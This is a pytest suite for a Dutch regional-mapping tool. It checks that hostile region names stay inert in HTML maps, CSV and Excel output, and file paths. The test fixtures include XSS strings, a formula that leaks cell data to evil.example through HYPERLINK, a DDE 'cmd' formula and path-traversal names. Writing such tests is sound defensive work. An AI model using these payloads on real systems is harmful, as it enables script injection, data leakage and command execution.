"""Hostile names and faults against what regio writes (issue 14, items 1-5).

* no script: a hostile name from a user's file or the data directory runs nothing in Chromium, on any map
  or the atlas index, and shows as the text it is;
* no formula: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or CR is text in Excel and quoted in
  CSV; numbers stay numbers;
* no path out of ``--out``: names built from user strings are safe stems;
* no output over an input or into the data directory;
* no half-written file: a failed write (a full disk, a file size limit) leaves the previous file and ends in
  one line, exit code 2.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import errno
import hashlib
import json
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import click
import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
from browser import CHROMEDRIVER, CHROMIUM, _serve, localise, require_browser
from click.testing import CliRunner
from shapely.geometry import box

from regio.cli import COMMAND_TABLE, OUTPUT_OPTIONS, main
from regio.errors import OutputError
from regio.maps.core import Layer, Marker, map_html, region_map
from regio.maps.escape import script_json
from regio.report.export import write_html, write_image, write_table
from regio.report.index_page import index_html
from regio.report.items import AtlasItem, SectionPage, SkippedSection
from regio.report.outputs import check_output, inside, output_file, output_rules, safe_stem, write_atomic

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "regio"

#: Names that try to end a script, open one, run a handler or a template; each sets window.__pwned or the title.
HOSTILE = [
    "Zuid</script><script>document.title='PWNED';window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "Noord<!--<script>window.__pwned=3</script>-->",
    "</SCRIPT ><svg onload=window.__pwned=4>",
    "Midden {{ 7*7 }} {% raw %} & &amp; \"quoted\" 'single'",
]
#: Text that a spreadsheet would run as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "+1", "-2x", "@SUM(A1)",
            "\tTab", "\rCR"]


# ----------------------------------------------------------------------------------------------- browser


def _open_page(path: Path, *, map_page: bool) -> dict:
    """Open a page in headless Chromium (served locally); report title, injected effects and the texts shown.

    On a map every tooltip (regions and markers) is opened in turn and its text collected.
    """
    from selenium import webdriver
    from selenium.common.exceptions import TimeoutException
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.support.ui import WebDriverWait

    files: dict[str, bytes] = {}
    with _serve(files) as base:
        page, routes = localise(path.read_text(encoding="utf-8"), base)
        files.update(routes)
        files["/page.html"] = page.encode("utf-8")
        opts = webdriver.ChromeOptions()
        opts.binary_location = CHROMIUM
        for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                    "--no-first-run", "--disable-background-networking", "--window-size=1200,900"):
            opts.add_argument(arg)
        driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
        try:
            driver.get(base + "/page.html")
            if map_page:  # a broken page draws no regions: say what ran instead of waiting for them only
                with contextlib.suppress(TimeoutException):
                    WebDriverWait(driver, 20).until(lambda d: d.execute_script(
                        "return document.querySelectorAll('path.regio-region').length") > 0)
            return driver.execute_script("""
                var tips = [];
                var maps = Object.keys(window).filter(function(k) { return /^map_[0-9a-f]+$/.test(k); });
                maps.forEach(function(k) {
                  window[k].eachLayer(function(l) {
                    if (!l.getTooltip || !l.getTooltip() || !l.getTooltip().options) { return; }
                    l.openTooltip();
                    var t = l.getTooltip().getElement();
                    if (t) { tips.push(t.innerText); }
                    l.closeTooltip();
                  });
                });
                return {regions: document.querySelectorAll('path.regio-region').length,
                        title: document.title, pwned: window.__pwned === undefined ? null : window.__pwned,
                        scripts: document.scripts.length,
                        injected: document.querySelectorAll('img[src="x"], svg[onload], img[onerror]').length,
                        text: document.body.innerText, tips: tips,
                        box: (document.querySelector('.regio-title') || {}).innerText || ''};""")
        finally:
            driver.quit()


def _assert_inert(seen: dict, *, title: str, scripts: int, regions: bool = True) -> None:
    assert seen["pwned"] is None, f"an injected script ran: window.__pwned = {seen['pwned']}"
    assert seen["regions"] > 0 or not regions, "the map drew no regions: its script was broken"
    assert seen["title"] == title != "PWNED"  # the page's own title, as text; not set by an injected script
    assert seen["scripts"] == scripts, "a <script> element was injected"
    assert seen["injected"] == 0, "an injected element with a handler is in the page"


def _page_scripts(page: str) -> int:
    """The <script> elements regio's page template has (the hostile text adds none to the file)."""
    return page.count("<script")


# ----------------------------------------------------------------------------------------------- 1. scripts


@pytest.mark.parametrize("name", [*HOSTILE, "a\u2028b\u2029c", "x</"])
def test_script_json_leaves_nothing_that_ends_a_script_and_reads_back(name):
    text = script_json({"name": name, "list": [name, {"k": name}]})
    assert not any(c in text for c in "<>&\u2028\u2029")
    assert "</" not in text and "{{" not in text and "{%" not in text
    assert json.loads(text) == {"name": name, "list": [name, {"k": name}]}


def _hostile_map_frame() -> gpd.GeoDataFrame:
    """Four regions named and coded with hostile names (an own grouping's regions are coded by their names)."""
    names = HOSTILE[:4]
    return gpd.GeoDataFrame({"t_name": names, "t_value": HOSTILE[4:5] * 4},
                            geometry=[box(150_000 + 12_000 * i, 440_000, 160_000 + 12_000 * i, 460_000)
                                      for i in range(4)],
                            index=names, crs="EPSG:28992")


def _hostile_map(gdf: gpd.GeoDataFrame) -> str:
    """A map with a hostile text in every place a text goes: names, labels, titles, legend, notes, markers."""
    layers = [Layer.from_values(HOSTILE[0], pd.Series([1.0, 2.0, 3.0, np.nan], index=gdf.index), k=2,
                                note=HOSTILE[1], labels=[HOSTILE[2], HOSTILE[3]], scheme="quantiles"),
              Layer.from_values(HOSTILE[3], pd.Series([4.0, 5.0, 6.0, 7.0], index=gdf.index), k=2)]
    markers = [Marker(lat=52.0, lon=5.0, label=HOSTILE[0], popup="<b>fixed</b>", legend=HOSTILE[1])]
    fmap = region_map(gdf, layers, tooltip={"t_name": HOSTILE[4], "t_value": "Waarde"}, title=HOSTILE[0],
                      source=HOSTILE[1], caveat=HOSTILE[2], markers=markers, tiles=None)
    return map_html(fmap, title=HOSTILE[0])


def test_no_hostile_text_reaches_a_map_page_raw():
    page = _hostile_map(_hostile_map_frame())
    for name in HOSTILE:
        assert name not in page
    assert "<script>document.title" not in page and "<img src=x" not in page
    assert "{{ 7*7 }}" not in page or "49" not in page


def _hostile_pages() -> list[SectionPage]:
    """Index sections whose headline, files, thumbnails and their captions are hostile names."""
    pages = []
    for name in HOSTILE:
        stem = safe_stem(name)
        items = (AtlasItem("population", name, f"{stem}.html", "map", name),
                 AtlasItem("population", name, f"{stem}.png", "image", name),
                 AtlasItem("population", name, f"{stem}.csv", "table", name))
        pages.append(SectionPage("population", name, name, items))
    return pages


def test_no_hostile_text_reaches_the_index_page_raw():
    page = index_html(_hostile_pages(), [SkippedSection(HOSTILE[0], HOSTILE[1])], data=HOSTILE[2])
    for name in HOSTILE:
        assert name not in page


@pytest.mark.browser
def test_hostile_names_run_nothing_on_a_map_and_show_as_text(tmp_path):
    require_browser()
    path = write_html(_hostile_map(_hostile_map_frame()), tmp_path / "map.html")
    seen = _open_page(path, map_page=True)
    _assert_inert(seen, title=HOSTILE[0], scripts=_page_scripts(path.read_text(encoding="utf-8")))
    shown = "\n".join(seen["tips"])
    for name in HOSTILE:  # every region's name, the tooltip header and the marker label, as written
        assert name in shown, name
    assert HOSTILE[0] in seen["box"] and HOSTILE[1] in seen["box"] and HOSTILE[2] in seen["box"]
    assert HOSTILE[2] in seen["text"] and HOSTILE[1] in seen["text"]  # legend labels and note


@pytest.mark.browser
def test_hostile_names_run_nothing_on_the_index_page(tmp_path):

    require_browser()
    path = write_html(index_html(_hostile_pages(), [SkippedSection("density", HOSTILE[0])]), tmp_path / "index.html")
    seen = _open_page(path, map_page=False)
    _assert_inert(seen, title="regio — atlas van de regionale artsenvoorziening", scripts=0, regions=False)
    for name in HOSTILE:
        assert name in seen["text"]


@pytest.mark.browser
def test_hostile_region_names_run_nothing_on_the_model_map(tmp_path):
    from regio.maps.charts import advice_map

    require_browser()
    regions = gpd.GeoDataFrame(
        {"statnaam": HOSTILE[:2], "advice": [40, 50], "advice_per_100k": [6.8, 7.7], "raw_advice": [39.6, 50.4],
         "population": [590_000, 650_000], "stock_share": [0.045, 0.05]},
        geometry=[box(230_000, 560_000, 270_000, 600_000), box(160_000, 540_000, 220_000, 600_000)],
        index=["PV20", "PV21"], crs="EPSG:28992")
    page, _png = advice_map(regions, title="Instroomadvies", source=HOSTILE[3], caveat=HOSTILE[4],
                            level_label="Provincie")
    path = write_html(page, tmp_path / "model.html")
    seen = _open_page(path, map_page=True)
    _assert_inert(seen, title="Instroomadvies", scripts=_page_scripts(page))
    assert all(any(name in tip for tip in seen["tips"]) for name in HOSTILE[:2])


# ----------------------------------------------------------------------------------------------- 2. formulas


def _hostile_table() -> pd.DataFrame:
    names = [*FORMULAS, "Noord"]
    return pd.DataFrame({"statnaam": names, "count": [-2, -1, 0, 1, 2, 3, 4, 5],
                         "rate": [-1.5, 0.0, 2.25, -3.0, 4.0, 5.5, -6.0, 7.0]},
                        index=pd.Index(names, name="statcode"))


def test_formulas_are_text_in_excel_and_quoted_in_csv_numbers_stay_numbers(tmp_path):
    frame = _hostile_table()
    written = write_table(frame, tmp_path / "t", notes=["=1+1 note", "- a line", "plain"])
    csv_path, notes_path, xlsx_path = written
    ws = openpyxl.load_workbook(xlsx_path).worksheets[0]
    rows = list(ws.iter_rows(min_row=2))
    for name, row in zip(frame.index, rows, strict=True):
        code, text, count, rate = row[:4]
        name = name.replace("\r", "\n")  # openpyxl reads a carriage return back as a newline
        assert (code.value, code.data_type) == (name, "s")  # the index too
        assert (text.value, text.data_type) == (name, "s")  # as written, not a formula
        assert count.data_type == "n" and rate.data_type == "n"
    assert [r[2].value for r in rows] == [-2, -1, 0, 1, 2, 3, 4, 5]
    assert [r[3].value for r in rows] == [-1.5, 0.0, 2.25, -3.0, 4.0, 5.5, -6.0, 7.0]
    notes = openpyxl.load_workbook(xlsx_path)["toelichting"]
    assert [(c.value, c.data_type) for (c,) in notes.iter_rows(min_row=2)] == [
        ("=1+1 note", "s"), ("- a line", "s"), ("plain", "s")]
    with open(csv_path, encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    for name, row in zip(frame.index, table[1:], strict=True):
        quoted = name if name == "Noord" else "'" + name.replace("\r", "\n")  # the OWASP leading quote
        assert row[0] == row[1] == quoted
    assert [row[2] for row in table[1:]] == ["-2", "-1", "0", "1", "2", "3", "4", "5"]
    assert [row[3] for row in table[1:]] == ["-1.5", "0.0", "2.25", "-3.0", "4.0", "5.5", "-6.0", "7.0"]
    assert notes_path.read_text(encoding="utf-8") == "=1+1 note\n- a line\nplain\n"  # notes are text, not a table


def test_characters_excel_cannot_hold_do_not_stop_the_table(tmp_path):
    frame = pd.DataFrame({"statnaam": ["bell\x07", "nul\x00x"]}, index=["a", "b"])
    xlsx = write_table(frame, tmp_path / "c", formats=["xlsx"])[0]
    assert [c.value for (c,) in openpyxl.load_workbook(xlsx).worksheets[0].iter_rows(min_row=2, min_col=2)] == [
        "bell\ufffd", "nul\ufffdx"]


# ----------------------------------------------------------------------------------------------- 3. names


@pytest.mark.parametrize("name", ["x/../../../escaped", "../../etc/passwd", "/abs/path", "a\\..\\b", "..", ".",
                                  "", "con", "x\x00y", "é" * 200, "a:b*c?d|e<f>g\"h"])
def test_safe_stem_is_one_name_in_the_folder(tmp_path, name):
    stem = safe_stem(name)
    assert stem and "/" not in stem and "\\" not in stem and ".." not in stem and not stem.startswith(".")
    assert len(stem.encode("utf-8")) <= 150
    path = output_file(tmp_path, stem, ".html")
    assert path.parent == tmp_path


def test_inside_refuses_paths_and_links_out_of_the_folder(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "link").symlink_to(tmp_path)
    assert inside(out, "tables/a.csv") == out / "tables" / "a.csv"
    for name in ("../a.csv", "/tmp/a.csv", "link/a.csv"):
        with pytest.raises(OutputError, match="outside the output folder"):
            inside(out, name)


def test_writers_refuse_a_path_outside_the_output_folder(tmp_path):
    with output_rules([tmp_path / "out"]):
        for write in (lambda p: write_html("<p>x</p>", p), lambda p: write_image(b"png", p),
                      lambda p: write_table(pd.DataFrame({"a": [1]}), p)):
            with pytest.raises(OutputError, match="outside the output folder"):
                write(tmp_path / "out" / ".." / "escaped.html")
    assert sorted(p.name for p in tmp_path.iterdir()) == []


@pytest.mark.realdata
def test_profession_from_the_command_line_cannot_make_a_path(real_data, tmp_path, monkeypatch):
    counts = tmp_path / "f.csv"
    pd.DataFrame({"region": [f"PV{c}" for c in range(20, 32)], "year": 2024,
                  "count": [300, 350, 250, 600, 1000, 700, 600, 2000, 2200, 1800, 1300, 600]}).to_csv(counts,
                                                                                                       index=False)
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    res = CliRunner().invoke(main, ["-q", "--data-dir", str(real_data), "density", "--counts", str(counts),
                                    "--profession", "x/../../../escaped", "--year", "2024", "--out", "DIR"])
    assert res.exit_code == 0, res.output
    assert sorted(p.name for p in (work / "DIR").iterdir()) == [
        "density_x_escaped_provincie_2024.csv", "density_x_escaped_provincie_2024.notes.txt",
        "density_x_escaped_provincie_2024.xlsx"]
    assert [p for p in tmp_path.rglob("*escaped*") if work / "DIR" not in p.parents] == []


# ----------------------------------------------------------------------------------------------- 4. inputs


def test_an_input_is_refused_by_path_link_or_hard_link(tmp_path):
    cur = tmp_path / "cur.csv"
    cur.write_text("region,current\nPV20,1\n")
    (tmp_path / "alias.csv").symlink_to(cur)
    os.link(cur, tmp_path / "hard.csv")
    with output_rules([tmp_path], inputs={tmp_path / "alias.csv": "--current alias.csv"}):
        for target in (cur, tmp_path / "hard.csv", tmp_path / "sub" / ".." / "cur.csv"):
            with pytest.raises(OutputError, match=r"one of this command's inputs \(--current alias.csv\)"):
                check_output(target)
        with pytest.raises(OutputError, match="inputs"):
            write_table(pd.DataFrame({"a": [1]}), tmp_path / "cur")  # writes cur.csv: refused before anything
    assert cur.read_text() == "region,current\nPV20,1\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alias.csv", "cur.csv", "hard.csv"]


def test_every_command_runs_under_the_rules_of_its_outputs():
    """Every command is guarded, and every option that names where to write is one of OUTPUT_OPTIONS.

    A new ``--png-out`` or ``--table-dir`` would otherwise write outside the rules.
    """
    ctx = click.Context(main)
    stack = [main.get_command(ctx, name) for name in COMMAND_TABLE]
    writers = set()
    while stack:
        command = stack.pop()
        if isinstance(command, click.Group):
            stack.extend(command.commands.values())
            continue
        assert getattr(command.callback, "_regio_guarded", False), command.name
        for param in command.params:
            if "out" in param.name or param.name.endswith("_dir"):
                assert param.name in OUTPUT_OPTIONS, (command.name, param.name)
                writers.add(command.name)
    assert writers == {"access", "density", "allocate", "allocation", "recruit", "model", "atlas", "population",
                       "trainers"}


@pytest.mark.realdata
def test_allocate_refuses_to_write_over_its_current_file(real_data, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("cur.csv").write_text("region,current\n" + "".join(f"PV{c},8\n" for c in range(20, 32)), encoding="utf-8")
    before = Path("cur.csv").read_bytes()
    for out in ("cur.csv", "cur", "./sub/../cur.xlsx"):  # cur and cur.xlsx: the table is also written as cur.csv
        res = CliRunner().invoke(main, ["-q", "--data-dir", str(real_data), "allocate", "--total", "100",
                                        "--current", "cur.csv", "--out", out], env={"REGIO_LANG": "en"})
        assert res.exit_code == 2, res.output
        assert res.stderr.count("\n") == 1 and "Traceback" not in res.output
        assert "one of this command's inputs (--current cur.csv)" in res.stderr and "--out" in res.stderr
        assert Path("cur.csv").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cur.csv"]


@pytest.mark.realdata
def test_nothing_is_written_into_the_data_directory(data_without, tmp_path):
    root = data_without()  # a writable copy (links) of the data directory
    table = root / "tables" / "population_gemeente_timeseries.csv"
    before = table.resolve().read_bytes()
    for args in (["population", "--out", str(table)], ["population", "--out", str(root / "tables" / "x.csv")],
                 ["atlas", "--section", "population", "--out", str(root / "maps")],
                 ["density", "--year", "2018", "--out", str(root)]):
        res = CliRunner().invoke(main, ["-q", "--data-dir", str(root), *args], env={"REGIO_LANG": "en"})
        assert res.exit_code == 2, (args, res.output)
        assert "lies inside the data directory" in res.output and str(root) in res.output, res.output
        assert res.output.count("\n") == 1
    assert table.is_symlink() and table.resolve().read_bytes() == before
    assert not (root / "tables" / "x.csv").exists() and not (root / "maps").exists()
    # the atlas's own data_dir= counts too
    from regio.report.atlas import build_atlas

    with pytest.raises(OutputError, match="inside the data directory"):
        build_atlas(root / "atlas", sections=["population"], data_dir=root, progress=False)


# ----------------------------------------------------------------------------------------------- 5. atomic


def _digest(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _writers(tmp_path: Path):
    frame = pd.DataFrame({"statnaam": ["Noord"], "count": [1]})
    return {
        "csv": (lambda: write_table(frame, tmp_path / "t", formats=["csv"]), "t.csv"),
        "notes": (lambda: write_table(frame, tmp_path / "t", formats=["csv"], notes=["n"]), "t.notes.txt"),
        "xlsx": (lambda: write_table(frame, tmp_path / "t", formats=["xlsx"], notes=["n"]), "t.xlsx"),
        "html": (lambda: write_html("<p>new</p>", tmp_path / "p.html"), "p.html"),
        "png": (lambda: write_image(b"\x89PNG new", tmp_path / "i.png"), "i.png"),
    }


@pytest.mark.parametrize("kind", ["csv", "notes", "xlsx", "html", "png"])
def test_a_failed_write_leaves_the_previous_file(tmp_path, monkeypatch, kind):
    write, name = _writers(tmp_path)[kind]
    write()
    before = _digest(tmp_path)
    real_replace = os.replace

    def full_disk(src, dst):  # the temporary file was written; the disk fills before it is in place
        if not str(dst).endswith(name):
            return real_replace(src, dst)
        Path(src).write_bytes(b"half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    with pytest.raises(OutputError) as caught:
        write()
    monkeypatch.setattr(os, "replace", real_replace)
    message = str(caught.value)
    assert "\n" not in message and name in message and "No space left on device" in message
    assert "Free disk space" in message
    assert _digest(tmp_path) == before  # the previous file, and no temporary file left


def test_any_output_json_included_gets_the_usual_permissions(tmp_path):
    target = tmp_path / "x.json"
    write_atomic(target, lambda p: p.write_text(json.dumps({"a": 1})))
    assert json.loads(target.read_text()) == {"a": 1}
    mask = os.umask(0)
    os.umask(mask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~mask  # not the private mode of a temporary file


def _limit_file_size(limit: int):
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def test_a_file_size_limit_leaves_the_old_page_and_says_so_in_one_line(tmp_path):
    page = tmp_path / "map.html"
    page.write_text("<html>old</html>", encoding="utf-8")
    code = ("import sys; from regio.report.export import write_html\n"
            "from regio.errors import RegioError\n"
            "try:\n    write_html('x' * 300_000, sys.argv[1])\n"
            "except RegioError as exc:\n    print(exc, file=sys.stderr); sys.exit(2)\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run([sys.executable, "-c", code, str(page)], capture_output=True, text=True, env=env,
                         preexec_fn=_limit_file_size(100_000), timeout=300)
    assert out.returncode == 2, out.stderr
    assert "File too large" in out.stderr and str(page) in out.stderr and "Traceback" not in out.stderr
    assert page.read_text(encoding="utf-8") == "<html>old</html>"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["map.html"]


@pytest.mark.realdata
@pytest.mark.slow
def test_atlas_on_a_full_disk_keeps_the_previous_atlas(real_data, tmp_path):
    out = tmp_path / "atlas"
    res = CliRunner().invoke(main, ["-q", "--data-dir", str(real_data), "atlas", "--section", "population",
                                    "--out", str(out)])
    assert res.exit_code == 0, res.output
    before = _digest(out)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "REGIO_DATA_DIR": str(real_data), "REGIO_LANG": "en"}
    run = subprocess.run([sys.executable, "-m", "regio", "-q", "atlas", "--section", "population", "--out",
                          str(out)], capture_output=True, text=True, env=env, cwd=tmp_path,
                         preexec_fn=_limit_file_size(200 * 1024), timeout=600)
    assert run.returncode == 2, run.stderr
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: Could not write ") and "File too large" in lines[0]
    assert "Traceback" not in run.stderr
    assert _digest(out) == before  # every file as it was, the index included, no temporary file
    index = (out / "index.html").read_text(encoding="utf-8")
    for link in re.findall(r"href='([^'#]+)'", index):  # every file linked (not the anchors within the page)
        assert (out / link).is_file()
    assert (out / "population_gemeente_2024.html").read_text(encoding="utf-8").rstrip().endswith("</html>")


# ----------------------------------------------------------------------------------------------- whole runs


def _hostile_data(real_data: Path, root: Path, names: dict[str, str]) -> Path:
    """A copy of the data directory (links) whose tables and 2024 boundaries call some municipalities ``names``."""
    for path in real_data.rglob("*"):
        if path.is_dir():
            continue
        rel = path.relative_to(real_data)
        dest = root / rel
        dest.parent.mkdir(parents=True, exist_ok=True)
        if rel.parts[0] == "tables" and path.suffix == ".csv":
            header = path.read_text(encoding="utf-8").split("\n", 1)[0].split(",")
            if "statcode" in header and "statnaam" in header:
                table = pd.read_csv(path, dtype=str, keep_default_na=False)
                hit = table["statcode"].isin(list(names))
                table.loc[hit, "statnaam"] = table.loc[hit, "statcode"].map(names)
                table.to_csv(dest, index=False)
                continue
        if rel.as_posix() == "boundaries/gemeente_2024.geojson":
            shapes = json.loads(path.read_text(encoding="utf-8"))
            for feature in shapes["features"]:
                code = feature["properties"]["statcode"]
                feature["properties"]["statnaam"] = names.get(code, feature["properties"]["statnaam"])
            dest.write_text(json.dumps(shapes), encoding="utf-8")
            continue
        dest.symlink_to(path)
    return root


def _assert_tables_defused(folder: Path, names: list[str]) -> int:
    """Every hostile name in the folder's CSV files is quoted and in its Excel files a text cell; how many seen."""
    seen = 0
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert cell not in names, (path.name, cell)  # never raw
                    seen += cell in {"'" + n for n in names}
    for path in folder.glob("*.xlsx"):
        for ws in openpyxl.load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    return seen


@pytest.mark.realdata
@pytest.mark.browser
@pytest.mark.slow
def test_hostile_names_from_an_areas_file_through_allocate(real_data, tmp_path):
    import regio

    require_browser()
    member = regio.membership(2024, levels=["provincie"], data_dir=real_data)["provincie"]
    names = {"PV20": HOSTILE[0], "PV21": HOSTILE[1], "PV22": FORMULAS[0], "PV23": FORMULAS[1], "PV24": FORMULAS[2],
             "PV25": FORMULAS[3], "PV26": FORMULAS[4], "PV27": HOSTILE[4]}
    areas = pd.DataFrame({"gemeente": member.index, "region": [names.get(p, "Rest") for p in member]})
    areas.to_csv(tmp_path / "areas.csv", index=False)
    out = tmp_path / "DIR"
    res = CliRunner().invoke(main, ["-q", "--data-dir", str(real_data), "allocate", "--total", "1026", "--areas",
                                    str(tmp_path / "areas.csv"), "--map", str(out), "--out", str(out / "alloc")])
    assert res.exit_code == 0, res.output
    (page,) = out.glob("*.html")
    text = page.read_text(encoding="utf-8")
    assert not any(name in text for name in HOSTILE)
    seen = _open_page(page, map_page=True)
    _assert_inert(seen, title=seen["title"], scripts=_page_scripts(text))
    assert seen["title"].startswith("Verdeling van 1.026")
    for name in (HOSTILE[0], HOSTILE[1], FORMULAS[0], HOSTILE[4]):
        assert any(name in tip for tip in seen["tips"]), name
    assert _assert_tables_defused(out, FORMULAS[:5]) >= 5 * 2  # code and name of each region in the CSV
    ws = openpyxl.load_workbook(out / "alloc.xlsx").worksheets[0]
    cells = {c.value: c.data_type for row in ws.iter_rows(max_col=2) for c in row}
    assert all(cells[name] == "s" for name in FORMULAS[:5])


@pytest.mark.realdata
@pytest.mark.browser
@pytest.mark.slow
def test_hostile_profession_through_the_density_map(real_data, tmp_path):
    require_browser()
    counts = tmp_path / "f.csv"
    pd.DataFrame({"region": [f"PV{c}" for c in range(20, 32)], "year": 2024,
                  "count": [300, 350, 250, 600, 1000, 700, 600, 2000, 2200, 1800, 1300, 600]}).to_csv(counts,
                                                                                                       index=False)
    out = tmp_path / "DIR"
    res = CliRunner().invoke(main, ["-q", "--data-dir", str(real_data), "map", "density", "--counts", str(counts),
                                    "--profession", HOSTILE[0], "--year", "2024", "--no-institutes", "--out",
                                    str(out)])
    assert res.exit_code == 0, res.output
    assert all(p.parent == out for p in tmp_path.rglob("*") if p.is_file() and p != counts)
    (page,) = out.glob("*.html")
    seen = _open_page(page, map_page=True)
    title = f"{HOSTILE[0]} per 100.000 inwoners, per provincie, 2024"
    _assert_inert(seen, title=title, scripts=_page_scripts(page.read_text(encoding="utf-8")))
    assert title in seen["box"]


@pytest.mark.realdata
@pytest.mark.browser
@pytest.mark.slow
def test_hostile_names_in_the_data_directory_through_recruit_and_the_atlas(real_data, tmp_path):
    require_browser()
    names = {"GM0037": HOSTILE[0], "GM0047": FORMULAS[0], "GM0050": HOSTILE[1], "GM0059": FORMULAS[1]}
    root = _hostile_data(real_data, tmp_path / "data", names)
    rec, atlas = tmp_path / "rec", tmp_path / "atlas"
    for args in (["recruit", "--out", str(rec)], ["atlas", "--section", "population", "--out", str(atlas)]):
        res = CliRunner().invoke(main, ["-q", "--data-dir", str(root), *args])
        assert res.exit_code == 0, res.output
    for page in (*rec.glob("*.html"), atlas / "population_gemeente_2024.html"):
        text = page.read_text(encoding="utf-8")
        assert not any(name in text for name in HOSTILE)
        seen = _open_page(page, map_page=True)
        _assert_inert(seen, title=seen["title"], scripts=_page_scripts(text))
        for name in (HOSTILE[0], HOSTILE[1], FORMULAS[0]):
            assert any(name in tip for tip in seen["tips"]), (page.name, name)
    seen = _open_page(atlas / "index.html", map_page=False)
    _assert_inert(seen, title=seen["title"], scripts=0, regions=False)
    for folder in (rec, atlas):
        assert _assert_tables_defused(folder, [FORMULAS[0], FORMULAS[1]]) >= 2


def test_every_file_regio_writes_goes_through_the_one_writer():
    """Outside the data sources (which write the data directory atomically themselves) only the export module
    writes files, and only through :func:`regio.report.outputs.write_atomic`."""
    writes = {"to_csv", "to_excel", "write_text", "write_bytes", "ExcelWriter", "savefig", "to_file", "dump"}
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        rel = path.relative_to(PACKAGE).as_posix()
        if rel.startswith("sources/") or rel in ("report/export.py", "report/outputs.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                if name in writes and not (name == "savefig" and rel.startswith("maps/")):  # maps: into memory
                    offenders.append(f"{rel}:{node.lineno} {name}")
                if name == "open" and any(isinstance(a, ast.Constant) and isinstance(a.value, str)
                                          and set(a.value) & set("wax+") for a in node.args[1:2]):
                    offenders.append(f"{rel}:{node.lineno} open")
    assert offenders == []


def test_a_failed_write_is_said_in_dutch_with_the_reason_and_the_fix():
    import errno

    from regio.report.outputs import failed_write

    err = failed_write("/data/out/kaart.html", OSError(errno.ENOSPC, "No space left on device"))
    assert err.message("nl") == ("Kan /data/out/kaart.html niet schrijven: geen ruimte meer op de schijf; het bestand "
                                 "dat er stond, als er een was, is ongewijzigd. Maak schijfruimte vrij (of verhoog de "
                                 "grens voor de bestandsgrootte) en probeer het opnieuw.")
    assert str(err) == ("Could not write /data/out/kaart.html: No space left on device; the file there before, if "
                        "any, is unchanged. Free disk space (or raise the file size limit) and run again.")
    odd = failed_write("x.csv", OSError(errno.EIO, "Input/output error"))  # a reason regio has no words for
    assert odd.message("nl").startswith("Kan x.csv niet schrijven: Input/output error;")


def test_an_output_under_a_file_is_one_dutch_line(real_data, tmp_path):
    from click.testing import CliRunner

    from regio.cli import main

    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    res = CliRunner().invoke(main, ["--data-dir", str(real_data), "model", "--out", str(blocker / "sub")],
                             env={"REGIO_LANG": None})
    lines = [line for line in res.output.splitlines() if line.startswith("fout:")]
    assert res.exit_code == 2 and len(lines) == 1, res.output
    assert lines[0].startswith(f"fout: Kan {blocker / 'sub'}") and "Could not" not in res.output
    assert "niet schrijven: een deel van het pad is geen map;" in lines[0]
    assert lines[0].endswith("kies een andere --out.")
